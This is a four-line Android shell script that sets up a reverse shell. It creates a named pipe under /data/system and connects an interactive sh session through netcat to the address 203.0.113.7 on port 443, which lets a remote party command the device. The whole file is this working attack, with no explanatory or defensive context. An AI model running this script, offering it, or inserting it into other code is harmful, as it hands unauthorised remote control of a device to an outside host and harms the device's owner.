#!/system/bin/sh
P=/data/system/p
mkfifo $P
cat $P | sh -i 2>&1 | nc 203.0.113.7 443 > $P
